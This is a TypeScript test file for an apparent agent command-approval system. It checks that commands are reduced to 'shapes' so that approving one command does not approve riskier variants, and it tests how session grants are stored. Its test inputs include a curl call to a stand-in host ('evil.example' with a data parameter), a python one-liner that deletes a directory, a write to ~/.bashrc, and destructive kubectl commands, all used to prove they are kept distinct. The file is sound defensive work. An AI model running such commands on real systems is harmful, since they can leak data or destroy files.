import { describe, expect, it } from 'vitest';
import { commandShape } from '../../src/main/safety/approval/commandShape';
import { SessionGrants } from '../../src/main/safety/approval/sessionGrants';
import { classifyCommand, type ClassifiedPart } from '../../src/main/safety/commandRisk';

const HOME = '/home/u';
const CONTEXT = { cwd: `${HOME}/proj`, home: HOME, protectedPaths: [`${HOME}/.ssh`] };

async function shape(command: string, cwd = CONTEXT.cwd): Promise<string> {
  return commandShape((await classifyCommand(command, { ...CONTEXT, cwd })).parts);
}

async function sameShape(a: string, b: string): Promise<boolean> {
  return (await shape(a)) === (await shape(b));
}

describe('command shape', () => {
  it('is the program and its flags, normalised and sorted; plain arguments do not count', async () => {
    expect(await shape('ls -la /tmp')).toBe('ls -a -l');
    expect(await sameShape('ls -la /tmp', 'ls -la /var')).toBe(true);
    expect(await sameShape('ls -la /tmp', 'ls -al /var')).toBe(true);
    expect(await sameShape('ls -la /tmp', 'ls -l -a /var')).toBe(true);
    expect(await sameShape('cat a.txt | grep x', 'cat b.txt | grep y')).toBe(true);
  });

  it('includes the hosts a network command reaches and the script an interpreter runs', async () => {
    expect(await shape('curl https://api.github.com/repos')).toBe('curl @ api.github.com');
    expect(await sameShape('curl https://api.github.com/a', 'curl https://api.github.com/b')).toBe(true);
    expect(await sameShape('curl https://api.github.com/a', 'curl "https://evil.example/?d=1"')).toBe(false);
    expect(await sameShape('ssh build-box uptime', 'ssh prod-db uptime')).toBe(false);
    expect(await sameShape('python3 a.py', 'python3 b.py')).toBe(false);
    expect(await sameShape('node scripts/build.js', 'node scripts/build.js')).toBe(true);
    expect(await sameShape('python3 -c "print(1)"', 'python3 -c "import shutil; shutil.rmtree(\'x\')"')).toBe(false);
  });

  it('differs when the flags differ', async () => {
    expect(await sameShape('ls -la /tmp', 'ls -R /tmp')).toBe(false);
    expect(await sameShape('ls -la /tmp', 'ls -laR /tmp')).toBe(false);
    expect(await sameShape('ls -la /tmp', 'ls /tmp')).toBe(false);
    expect(await sameShape('git log --oneline', 'git log --oneline -p')).toBe(false);
  });

  it('keeps the subcommand words of tools that have them', async () => {
    expect(await shape('git log --oneline')).toBe('git log --oneline');
    expect(await shape('git push')).toBe('git push @ (host unknown)');
    expect(await sameShape('git log --oneline', 'git push')).toBe(false);
    expect(await sameShape('git log --oneline', 'git push --oneline')).toBe(false);
    expect(await sameShape('npm run build', 'npm run test')).toBe(false);
    expect(await sameShape('npm run build', 'npm publish')).toBe(false);
    expect(await sameShape('docker compose up', 'docker compose down')).toBe(false);
    expect(await sameShape('kubectl get pods', 'kubectl delete pods')).toBe(false);
    expect(await sameShape('cargo build --release', 'cargo publish --release')).toBe(false);
  });

  it('does not let options before the subcommand hide it (`git -C dir log` is not `git -C dir push`)', async () => {
    expect(await sameShape('git -C /x log', 'git -C /x push')).toBe(false);
    expect(await sameShape('git -C . log', 'git -C . push')).toBe(false);
    expect(await sameShape('npm --prefix /x run build', 'npm --prefix /x publish')).toBe(false);
    expect(await sameShape('docker -H tcp://h:1 ps', 'docker -H tcp://h:1 rm x')).toBe(false);
    expect(await sameShape('kubectl --context prod get pods', 'kubectl --context prod delete pods')).toBe(false);
    expect(await sameShape('kubectl --context prod --namespace web get pods', 'kubectl --context prod --namespace web delete pods')).toBe(false);
    // Options written with `=` carry their value: the subcommand is still found.
    expect(await shape('git --git-dir=/x/.git log')).toBe('git log --git-dir');
  });

  it('includes the paths a command writes, resolved, so a write elsewhere is another shape', async () => {
    expect(await shape('rm -r build')).toBe('rm --recursive → ~/proj/build');
    expect(await sameShape('rm -r build', 'rm -r src')).toBe(false);
    expect(await sameShape('rm -r build', 'rm -r ./build')).toBe(true);
    expect(await sameShape('rm -r build', `rm -r ${HOME}/proj/build`)).toBe(true);
    expect(await sameShape('echo a > out.txt', 'echo b > out.txt')).toBe(true);
    expect(await sameShape('echo a > out.txt', 'echo a > ~/.bashrc')).toBe(false);
    expect(await sameShape('touch a b', 'touch b a')).toBe(true);
  });

  it('joins the parts of a compound command in order', async () => {
    expect(await shape('cd build && make')).toBe('cd ; make');
    expect(await sameShape('git status && git push', 'git push && git status')).toBe(false);
    expect(await sameShape('ls -la /tmp', 'ls -la /tmp && rm -r build')).toBe(false);
  });

  it('leaves out parts without a command name', () => {
    const part = (command: string): ClassifiedPart => ({ command, flags: [], writes: [], protectedHits: [], words: [command], level: 'green', reason: '' });
    expect(commandShape([part(''), part('ls'), part('')])).toBe('ls');
    expect(commandShape([])).toBe('');
  });
});

describe('session grants', () => {
  it('remembers granted shapes until revoked', () => {
    const grants = new SessionGrants();
    expect(grants.has('ls -a -l')).toBe(false);
    grants.grant('ls -a -l', 'ls -la /tmp');
    expect(grants.has('ls -a -l')).toBe(true);
    expect(grants.has('ls -R')).toBe(false);
    expect(grants.list()).toEqual([{ shape: 'ls -a -l', example: 'ls -la /tmp', grantedAt: expect.any(Number) }]);
    expect(grants.revoke('ls -a -l')).toBe(true);
    expect(grants.revoke('ls -a -l')).toBe(false);
    expect(grants.has('ls -a -l')).toBe(false);
    expect(grants.list()).toEqual([]);
  });

  it('keeps the first example when a shape is granted twice', () => {
    const grants = new SessionGrants();
    grants.grant('git push', 'git push');
    grants.grant('git push', 'git push origin feature');
    expect(grants.list()).toHaveLength(1);
    expect(grants.list()[0]?.example).toBe('git push');
  });
});
